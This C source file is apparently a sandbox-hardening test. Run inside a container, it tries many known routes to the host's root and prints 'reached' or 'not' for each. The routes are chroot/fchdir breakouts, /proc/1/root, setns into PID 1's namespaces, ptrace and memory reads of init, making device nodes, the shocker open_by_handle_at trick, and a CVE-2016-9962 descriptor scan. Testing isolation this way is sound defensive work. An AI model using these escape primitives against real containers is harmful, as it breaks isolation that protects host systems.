/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * escape MARK [SECONDS] - ways to the host's root, each tried for real
 *
 *	MARK	a file at the top of the host's tree that no template has, without the slash
 *	SECONDS	how long to look at other processes as they come and go
 *
 * One line per try: name, "reached" or "not", and more.  "seen" lines name what /proc showed of
 * descriptors, programs and directories of the other processes here.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../../"

static const char *mark;

static void say(const char *name, bool is_reached)
{
	(void)printf("%s\t%s\t%s\n", name, is_reached ? "reached" : "not", strerror(errno));
	(void)fflush(stdout);
}

/* Is the mark in the directory, or anywhere above it? */
static bool is_host(int dir_fd)
{
	char path[64 + sizeof(UP)];

	(void)snprintf(path, sizeof(path), "%s", mark);
	if (faccessat(dir_fd, path, F_OK, AT_SYMLINK_NOFOLLOW) == 0)
		return true;
	(void)snprintf(path, sizeof(path), UP "%s", mark);
	return faccessat(dir_fd, path, F_OK, AT_SYMLINK_NOFOLLOW) == 0;
}

static bool is_host_at(const char *path)
{
	int fd = open(path, O_PATH | O_CLOEXEC);
	bool is_it = fd >= 0 && is_host(fd);

	if (fd >= 0)
		(void)close(fd);
	return is_it;
}

static bool climb(void)
{
	for (int i = 0; i < 64; i++)
		(void)chdir("..");
	return is_host(AT_FDCWD) || (chroot(".") == 0 && is_host_at("/"));
}

/* The classical one: a directory outside the new root is kept open and walked up from. */
static bool chroot_and_fchdir(void)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	(void)mkdir("/tmp/escape", 0700);
	return chroot("/tmp/escape") == 0 && fchdir(fd) == 0 && climb();
}

/* The same without a descriptor: chroot does not change the working directory. */
static bool chroot_twice(void)
{
	(void)mkdir("/tmp/escape", 0700);
	(void)mkdir("/tmp/escape/deeper", 0700);
	return chdir("/tmp/escape") == 0 && chroot("deeper") == 0 && climb();
}

static bool dots(void)
{
	return climb();
}

static bool openat2_up(void)
{
	struct open_how how = {.flags = O_PATH};
	int root = open("/", O_PATH);
	long fd = syscall(SYS_openat2, root, UP, &how, sizeof(how));

	return fd >= 0 && is_host((int)fd);
}

static bool proc_1_root(void)
{
	return is_host_at("/proc/1/root") || is_host_at("/proc/1/cwd");
}

static bool proc_thread_root(void)
{
	return is_host_at("/proc/self/task/1/root") || is_host_at("/proc/thread-self/root");
}

static bool enter_namespaces(void)
{
	static const char *const names[] = {"user", "mnt", "pid", "net", "cgroup", "ipc", "uts"};
	char path[64];
	bool is_entered = false;

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		(void)snprintf(path, sizeof(path), "/proc/1/ns/%s", names[i]);
		int fd = open(path, O_RDONLY);

		is_entered |= fd >= 0 && setns(fd, 0) == 0;
	}
	int pid_fd = (int)syscall(SYS_pidfd_open, 1, 0);
	return is_entered | (pid_fd >= 0 && setns(pid_fd, CLONE_NEWNS) == 0);
}

static bool trace_init(void)
{
	if (ptrace(PTRACE_SEIZE, 1, NULL, NULL) == 0)
		return true;
	return ptrace(PTRACE_ATTACH, 1, NULL, NULL) == 0;
}

static bool read_init_memory(void)
{
	static const char *const names[] = {"mem", "environ", "auxv", "maps", "exe", "syscall"};
	struct iovec local = {&local, 8}, remote = {(void *)0x1000, 8};
	char path[64], bytes[16];

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		(void)snprintf(path, sizeof(path), "/proc/1/%s", names[i]);
		int fd = open(path, O_RDONLY);

		if (fd >= 0 && (read(fd, bytes, sizeof(bytes)) > 0 || errno == EIO))
			return true;
	}
	/* Not allowed is EPERM, a bad address EFAULT. */
	return process_vm_readv(1, &local, 1, &remote, 1, 0) >= 0 || errno != EPERM;
}

static bool list_init_fds(void)
{
	return opendir("/proc/1/fd") != NULL || opendir("/proc/1/map_files") != NULL;
}

/* A disk, the machine's memory, a kernel log: wherever a node may be made. */
static bool device_nodes(void)
{
	static const struct {
		mode_t type;
		unsigned int device_major, device_minor;
	} nodes[] = {{S_IFBLK, 254, 0}, {S_IFBLK, 8, 0},  {S_IFBLK, 259, 0}, {S_IFBLK, 7, 0},
		     {S_IFCHR, 1, 1},   {S_IFCHR, 1, 11}, {S_IFCHR, 1, 3},   {S_IFCHR, 10, 229}};
	static const char *const places[] = {"/",    "/tmp",  "/dev", "/dev/shm",
					     "/run", "/root", "/opt", "."};
	char path[64];

	for (size_t i = 0; i < sizeof(nodes) / sizeof(nodes[0]); i++)
		for (size_t j = 0; j < sizeof(places) / sizeof(places[0]); j++) {
			(void)snprintf(path, sizeof(path), "%s/escape-node", places[j]);
			bool is_made =
				mknod(path, nodes[i].type | 0666,
				      makedev(nodes[i].device_major, nodes[i].device_minor)) == 0;

			if (is_made && open(path, O_RDONLY | O_NONBLOCK) >= 0)
				return true;
			(void)unlink(path);
		}
	return false;
}

/* The way of shocker.c: a file handle that was guessed. */
static bool shocker(void)
{
	struct {
		struct file_handle head;
		unsigned char bytes[8];
	} handle = {{8, 1}, {2}};
	int root = open("/etc/hosts", O_RDONLY);

	return syscall(SYS_open_by_handle_at, root, &handle, O_RDONLY) >= 0;
}

/* Whatever is still open from outside would be a way back. */
static bool own_descriptors(void)
{
	struct stat st, root;
	bool is_open = false;

	(void)stat("/", &root);
	for (int fd = 0; fd < 4096; fd++) {
		if (fstat(fd, &st) != 0)
			continue;
		if (S_ISDIR(st.st_mode) || S_ISREG(st.st_mode) || S_ISBLK(st.st_mode))
			(void)printf("seen\town %d\t%o\n", fd, st.st_mode), is_open = true;
	}
	errno = 0;
	return is_open;
}

static const struct {
	const char *name;
	bool (*is_reached)(void);
} tries[] = {
	/* Order: first, before anything here is opened. */
	{"own descriptors", own_descriptors},
	{"dots", dots},
	{"chroot, fchdir", chroot_and_fchdir},
	{"chroot twice", chroot_twice},
	{"openat2", openat2_up},
	{"/proc/1/root", proc_1_root},
	{"/proc/self/task", proc_thread_root},
	{"setns", enter_namespaces},
	{"ptrace init", trace_init},
	{"/proc/1/mem", read_init_memory},
	{"/proc/1/fd", list_init_fds},
	{"device nodes", device_nodes},
	{"open_by_handle_at", shocker},
};

/* Is what the descriptor names on a mount that is not among ours?  Pipes, sockets and the like are
 * on the kernel's own. */
static bool is_elsewhere(int fd, const char *target)
{
	struct statx st;
	char line[1024];
	bool is_ours = false;
	FILE *table;

	if (target[0] != '/' || strncmp(target, "/memfd:", 7) == 0)
		return false;
	if (syscall(SYS_statx, fd, "", AT_EMPTY_PATH, STATX_MNT_ID, &st) != 0)
		return false;
	table = fopen("/proc/self/mountinfo", "r");
	while (table && fgets(line, sizeof(line), table))
		is_ours |= strtoull(line, NULL, 10) == st.stx_mnt_id;
	if (table)
		(void)fclose(table);
	return !is_ours;
}

/* Reads a link of another process, says what it is, and whether it leads to the host. */
static bool look(const char *pid, const char *what)
{
	char path[300], target[300];
	ssize_t n;

	(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, what);
	n = readlink(path, target, sizeof(target) - 1);
	if (n < 0)
		return false;
	target[n] = '\0';
	(void)printf("seen\t%s\t%s\n", what, target);
	int fd = open(path, O_PATH | O_CLOEXEC);
	bool is_reached = fd >= 0 && (is_host(fd) || is_elsewhere(fd, target));

	if (fd >= 0)
		(void)close(fd);
	return is_reached;
}

static bool look_at(const char *pid)
{
	bool is_reached = look(pid, "root") | look(pid, "cwd") | look(pid, "exe");
	char path[300];
	struct dirent *e;
	DIR *dir;

	(void)snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (e = readdir(dir)) != NULL) {
		(void)snprintf(path, sizeof(path), "fd/%.20s", e->d_name);
		if (e->d_name[0] != '.')
			is_reached |= look(pid, path);
	}
	if (dir)
		(void)closedir(dir);
	return is_reached;
}

/* CVE-2016-9962: whoever joins is caught before he has closed what he brought. */
static bool look_at_all(time_t until)
{
	bool is_reached = false;

	do {
		DIR *dir = opendir("/proc");
		struct dirent *e;

		while (dir && (e = readdir(dir)) != NULL)
			if (e->d_name[0] >= '1' && e->d_name[0] <= '9' &&
			    atoi(e->d_name) != getpid())
				is_reached |= look_at(e->d_name);
		if (dir)
			(void)closedir(dir);
	} while (time(NULL) < until);
	errno = 0;
	return is_reached;
}

int main(int argc, char **argv)
{
	mark = argv[1];
	for (size_t i = 0; i < sizeof(tries) / sizeof(tries[0]); i++) {
		pid_t pid = fork();

		if (pid == 0) {
			errno = 0;
			say(tries[i].name, tries[i].is_reached());
			_exit(0);
		}
		(void)waitpid(pid, NULL, 0);
	}
	say("other processes", look_at_all(time(NULL) + (argc > 2 ? atoi(argv[2]) : 0)));
	return 0;
}
